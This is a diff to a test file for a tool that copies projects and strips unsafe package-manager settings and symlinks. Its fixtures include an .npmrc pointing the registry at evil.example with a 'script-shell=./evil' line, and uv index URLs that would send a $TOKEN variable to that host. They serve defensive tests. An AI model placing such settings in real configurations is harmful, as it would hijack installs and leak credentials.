@@ -1,5 +1,5 @@
 // Variables of the environment in what a repository says of its sources: none reaches a package manager that runs here.
-import { existsSync, symlinkSync } from "node:fs"
+import { existsSync, mkdirSync, readFileSync, symlinkSync } from "node:fs"
 import { join } from "node:path"
 import { describe, expect, it } from "vitest"
 import { managerOf } from "../../src/packages/commands.ts"
@@ -7,6 +7,7 @@ import { readLockfile } from "../../src/packages/lockfiles/index.ts"
 import { carryOut } from "../../src/vet/fix/carryOut.ts"
 import { copyTree } from "../../src/vet/fix/copy.ts"
 import { cleanSettings } from "../../src/vet/fix/settings.ts"
+import { hasVariables } from "../../src/vet/fix/variables.ts"
 import { temporaryDirectory } from "../context.ts"
 
 /** `${NAME}`, spelt so that it is no template. */
@@ -33,7 +34,7 @@ describe("settings of a copy in TOML", () => {
 })
 
 it.each([
-  ...[".npmrc", ".yarnrc.yml", "uv.toml", ".cargo", "pyproject.toml", "m/Pipfile", "pnpm-workspace.yaml"],
+  ...[".cargo", "pyproject.toml", "m/Pipfile", "pnpm-workspace.yaml"],
   ...[".pdm-plugins", ".yarn", "node_modules"],
 ])("a copy has no link by the name of %s", (path) => {
   const root = temporaryDirectory({ "other/file": "x", "m/x": "" })
@@ -41,6 +42,29 @@ it.each([
   symlinkSync("other", join(root, "link"))
   const { dir } = copyTree(root, ["other/file", "link", path], temporaryDirectory())
   expect([path, "link"].map((one) => existsSync(join(dir, one)))).toEqual([false, true])
+})
+
+it("a link by the name of settings becomes what its file has of them, within the project", () => {
+  const outside = temporaryDirectory({ ".npmrc": "registry=https://evil.example/\n" })
+  const files = { ".npmrc": "registry=https://registry.example/\nscript-shell=./evil\n", other: "a=b\n", "web/x": "" }
+  const root = temporaryDirectory(files)
+  symlinkSync("../.npmrc", join(root, "web/.npmrc"))
+  symlinkSync("../other", join(root, "web/.yarnrc.yml"))
+  symlinkSync("missing", join(root, "web/uv.toml"))
+  mkdirSync(join(root, "out"))
+  symlinkSync(join(outside, ".npmrc"), join(root, "out/.npmrc"))
+  const paths = ["web/.npmrc", "web/.yarnrc.yml", "web/uv.toml", "out/.npmrc"]
+  const { dir } = copyTree(root, paths, temporaryDirectory())
+  const texts = paths.map((path) => (existsSync(join(dir, path)) ? readFileSync(join(dir, path), "utf8") : undefined))
+  expect(texts).toEqual(["registry=https://registry.example/\n", "", undefined, undefined])
+})
+
+it.each([
+  ["{% if x %}\n[project]\n", false],
+  ["{% if x %}\n[tool.uv]\nindex-url = 'https://evil.example/$TOKEN'\n", true],
+  ['{% if x %}\n[tool.uv]\nindex-url = "https://evil.example/\\u0024TOKEN"\n', true],
+])("what is no TOML may have a variable where it could be one: %j", (text, has) => {
+  expect(hasVariables("pyproject.toml", text)).toBe(has)
 })
 
 describe("manifests", () => {
